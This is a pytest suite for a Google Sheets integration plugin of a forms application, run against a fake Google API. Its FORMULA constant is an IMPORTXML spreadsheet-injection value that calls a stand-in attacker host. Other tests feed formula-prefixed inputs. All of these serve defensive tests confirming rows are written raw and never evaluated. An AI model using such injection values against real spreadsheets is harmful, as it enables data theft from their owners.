"""Google Sheets against a fake token endpoint and a fake Sheets v4 API served over HTTP on loopback."""

from __future__ import annotations

import pytest

from app.contract import PluginError
from plugins.google_sheets import GoogleSheetsPlugin
from tests.plugins.conftest import SETTINGS, finished_job, payload, run_plugin
from tests.plugins.peers.google import FakeGoogle
from tests.plugins.peers.http import Reply
from tests.support.wait import wait_until

EMAIL = "forms@acme-project.iam.gserviceaccount.com"
KEY = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
URL = f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=0"
HEADERS = ["Submission ID", "Submitted at", "Your name", "E-mail", "Message"]
FORMULA = '=IMPORTXML("https://evil.example/x", "//a")'


@pytest.fixture
def sheets(google: FakeGoogle):
    """(plugin, base config, the spreadsheet) with the service account as an editor."""
    book = google.spreadsheet(KEY, editors=[EMAIL])
    plugin = GoogleSheetsPlugin({**SETTINGS, "GOOGLE_SHEETS_API_URL": google.api_url})
    config = {"service_account_json": google.service_account(EMAIL), "spreadsheet": URL}
    return plugin, config, book


def test_the_header_row_is_created_and_the_row_appended_raw(sheets, google):
    plugin, config, book = sheets
    data = {"name": FORMULA, "email": "ada@example.com", "message": "Hi", "age": 42}

    result = run_plugin(plugin, config, payload(data))

    assert book.sheets[0].values() == [
        [*HEADERS, "age"],
        ["sub1", "2026-05-01T10:00:00.000Z", FORMULA, "ada@example.com", "Hi", 42],
    ]  # the formula is stored as text, never evaluated
    [append] = [r for r in google.writes() if r.path.endswith(":append")]
    assert append.query["valueInputOption"] == "RAW"
    assert result.summary == "Appended a row to Responses › Sheet1"


def test_an_edit_updates_the_same_row_and_leaves_other_columns_alone(sheets):
    plugin, config, book = sheets
    run_plugin(plugin, config, payload({"name": "Ada"}, submission_id="s1"))
    run_plugin(plugin, config, payload({"name": "Bob"}, submission_id="s2"))
    sheet = book.sheets[0]
    sheet.set(0, 5, "Notes")  # a column the owner added by hand
    sheet.set(1, 5, "call back")

    result = run_plugin(
        plugin, config, payload({"name": "Ada L."}, event="response.edited", submission_id="s1")
    )

    assert [row[:3] for row in sheet.values()] == [
        HEADERS[:3],
        ["s1", "2026-05-01T10:00:00.000Z", "Ada L."],
        ["s2", "2026-05-01T10:00:00.000Z", "Bob"],
    ]
    assert sheet.values()[1][5] == "call back"
    assert result.summary == "Updated row 2 of Responses › Sheet1"


def test_a_delete_removes_the_row(sheets):
    plugin, config, book = sheets
    for sub in ("s1", "s2", "s3"):
        run_plugin(plugin, config, payload({"name": sub}, submission_id=sub))

    result = run_plugin(plugin, config, payload(event="response.deleted", submission_id="s2"))

    assert [row[0] for row in book.sheets[0].values()] == ["Submission ID", "s1", "s3"]
    assert result.summary == "Deleted row 3 of Responses › Sheet1"
    again = run_plugin(plugin, config, payload(event="response.deleted", submission_id="s2"))
    assert "nothing to delete" in again.summary


def test_a_retried_job_does_not_duplicate_the_row(sheets):
    plugin, config, book = sheets
    run_plugin(plugin, config, payload())
    run_plugin(plugin, config, payload())  # the same job again, e.g. after a crash before it was marked done
    assert [row[0] for row in book.sheets[0].values()] == ["Submission ID", "sub1"]


def test_extra_columns_render_templates_over_the_workflow_steps_and_are_entered_raw(sheets, google):
    plugin, config, book = sheets
    config |= {
        "columns": [{"field": "email", "header": "Email"}],
        "extra_columns": [
            {"header": "Contact", "value": "{{ steps.contact.output.id }}"},
            {"header": "Lead", "value": "{{ data.name | upper }} via {{ form.name }}"},
            {"header": "Note", "value": "{{ data.note }}"},
            {"header": "Email", "value": "{{ data.email | lower }}"},  # takes the field's place
            {"header": "Chosen", "value": "{{ fields | map(attribute='label') | join('/') }}"},
        ],
    }
    for note in (FORMULA, "+1 555", "-2", "@SUM(A1)"):
        snapshot = payload({"name": "Ada", "email": "ADA@Example.com", "note": note}, submission_id=note)
        run_plugin(plugin, config, snapshot | {"steps": {"contact": {"output": {"id": "501"}}}})
        assert book.sheets[0].values()[-1][2:] == ["ada@example.com", "501", "ADA via Contact", note, "Email"]
    assert book.sheets[0].values()[0] == [*HEADERS[:2], "Email", "Contact", "Lead", "Note", "Chosen"]
    assert {r.query.get("valueInputOption") for r in google.writes() if r.path.endswith(":append")} == {"RAW"}
    assert len(book.sheets[0].values()) == 5  # one row a submission, the text never evaluated


def test_a_workflow_run_without_a_submission_keys_its_row_by_the_step_and_a_redelivery_finds_it(sheets):
    plugin, config, book = sheets
    config |= {"extra_columns": [{"header": "Contact", "value": "{{ steps.contact.output.id }}"}]}

    def step(contact: str) -> dict:
        return {
            "event": "workflow.manual",
            "form": {"id": None, "name": "Lead flow", "fields": []},
            "submission": None,
            "data": {"email": "ada@example.com"},
            "occurred_at": "2026-05-01T10:00:00.000Z",
            "steps": {"contact": {"output": {"id": contact}}},
        }

    run_plugin(plugin, config, step("501"), job_id="run1")
    again = run_plugin(plugin, config, step("501"), job_id="run1")  # the same step delivered again
    run_plugin(plugin, config, step("502"), job_id="run2")  # another run: its own row

    assert again.summary == "Updated row 2 of Responses › Sheet1"
    assert [[row[0], row[-1]] for row in book.sheets[0].values()] == [
        ["Submission ID", "Contact"],
        ["msg_run1", "501"],
        ["msg_run2", "502"],
    ]


def test_an_extra_column_whose_template_fails_fails_the_attempt_for_good(sheets):
    plugin, config, book = sheets
    config |= {"extra_columns": [{"header": "Broken", "value": "{{ 1 / 0 }}"}]}
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload())
    assert err.value.permanent and "'Broken' column template" in err.value.message
    assert book.sheets[0].values() == []


def test_new_form_fields_become_new_columns(sheets):
    plugin, config, book = sheets
    run_plugin(plugin, config, payload({"name": "Ada"}, submission_id="s1"))
    run_plugin(plugin, config, payload({"name": "Bob", "phone": "555"}, submission_id="s2"))
    assert book.sheets[0].values()[0] == [*HEADERS, "phone"]
    assert book.sheets[0].values()[2][-1] == "555"


def test_chosen_columns_with_headers_and_without_metadata(sheets):
    plugin, config, book = sheets
    config |= {
        "columns": [{"field": "email", "header": "Email"}, {"field": "name"}],
        "include_metadata": False,
    }
    run_plugin(plugin, config, payload())
    assert book.sheets[0].values() == [["Email", "Your name"], ["ada@example.com", "Ada"]]
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload(event="response.edited"))
    assert err.value.permanent and "include_metadata" in err.value.message


def test_a_narrow_worksheet_is_widened_for_the_headers(sheets):
    plugin, config, book = sheets
    book.sheets[0].col_count = 3
    run_plugin(plugin, config, payload())
    assert book.sheets[0].values()[0] == HEADERS
    assert book.sheets[0].col_count == 5


def test_a_named_worksheet_is_used_and_a_missing_one_explained(sheets, google):
    plugin, config, _ = sheets
    book = google.spreadsheet(KEY, sheets=("Summary", "Responses"), editors=[EMAIL])
    run_plugin(plugin, config | {"worksheet": "Responses"}, payload())
    assert book.sheets[0].values() == [] and book.sheets[1].values()[1][0] == "sub1"
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config | {"worksheet": "Nope"}, payload())
    assert err.value.permanent and "no worksheet named 'Nope'" in err.value.message


def test_permission_denied_names_the_service_account_email(sheets, google):
    plugin, config, book = sheets
    book.editors.clear()
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload())
    assert err.value.permanent
    assert f"Share the spreadsheet with {EMAIL} as an Editor." in err.value.message


def test_read_only_access_names_the_service_account_email(sheets):
    plugin, config, book = sheets
    book.editors.clear()
    book.readers.add(EMAIL)
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload())
    assert err.value.permanent and f"Share the spreadsheet with {EMAIL} as an Editor." in err.value.message


def test_a_key_google_refuses_is_permanent(google):
    google.spreadsheet(KEY, editors=[EMAIL])
    plugin = GoogleSheetsPlugin({**SETTINGS, "GOOGLE_SHEETS_API_URL": google.api_url})
    config = {"service_account_json": google.service_account(EMAIL, register=False), "spreadsheet": KEY}
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload())
    assert err.value.permanent
    assert f"Google refused the key of {EMAIL} (invalid_grant: Invalid JWT Signature.)" in err.value.message


def test_quota_and_server_errors_are_retryable(sheets, google):
    plugin, config, _ = sheets
    google.scripted.append(
        Reply(
            429,
            {"error": {"code": 429, "message": "Quota exceeded", "status": "RESOURCE_EXHAUSTED"}},
            {"Retry-After": "30"},
        )
    )
    with pytest.raises(PluginError) as err:
        run_plugin(plugin, config, payload())
    assert not err.value.permanent and err.value.retry_after == 30


def test_test_connection_reports_titles_and_writes_nothing(sheets, google):
    plugin, config, _ = sheets
    result = plugin.test_connection(plugin.config_schema().load(config))
    assert result.success, result.message
    assert result.message == f"Opened 'Responses', worksheet 'Sheet1', as {EMAIL}. Nothing was written."
    assert google.writes() == []


def test_test_connection_says_which_email_needs_access(sheets):
    plugin, config, book = sheets
    book.editors.clear()
    result = plugin.test_connection(plugin.config_schema().load(config))
    assert not result.success
    assert f"Share the spreadsheet with {EMAIL} as an Editor." in result.message


def test_rows_follow_submissions_through_the_engine(sheets, google, live_api_with):
    _, config, book = sheets
    api = live_api_with(GOOGLE_SHEETS_API_URL=google.api_url)
    form = api.create_form("Contact", [{"name": "email", "label": "E-mail"}, {"name": "message"}])
    api.add_plugin(
        form["id"],
        "google_sheets",
        config,
        trigger_events=["form.submitted", "response.edited", "response.deleted"],
    )
    sheet = book.sheets[0]

    first = api.submit(form["id"], {"email": "ada@example.com", "message": FORMULA})
    second = api.submit(form["id"], {"email": "bob@example.com", "message": "Hello"})
    assert [finished_job(api, j)["status"] for j in first["jobs"] + second["jobs"]] == ["completed"] * 2
    assert sheet.values()[0] == ["Submission ID", "Submitted at", "E-mail", "message"]
    assert {row[0]: row[2:] for row in sheet.values()[1:]} == {
        first["id"]: ["ada@example.com", FORMULA],
        second["id"]: ["bob@example.com", "Hello"],
    }

    # A resend of a delivered job (same as a retry after a crash) finds the row instead of adding one.
    assert api.post(f"/api/jobs/{first['jobs'][0]}/retry").status_code == 200
    assert wait_until(lambda: len(api.job(first["jobs"][0])["logs"]) == 2, what="the resend")
    assert finished_job(api, first["jobs"][0])["status"] == "completed"
    assert sorted(row[0] for row in sheet.values()[1:]) == sorted(
        [first["id"], second["id"]]
    )  # jobs run in parallel

    edited = api.patch(
        f"/api/submissions/{first['id']}", {"data": {"email": "ada@example.org", "message": "Hi"}}
    ).json
    assert finished_job(api, edited["jobs"][0])["status"] == "completed"
    assert {row[0]: row[2:] for row in sheet.values()[1:]}[first["id"]] == ["ada@example.org", "Hi"]

    deleted = api.delete(f"/api/submissions/{second['id']}").json
    assert finished_job(api, deleted["jobs"][0])["status"] == "completed"
    assert [row[0] for row in sheet.values()] == ["Submission ID", first["id"]]
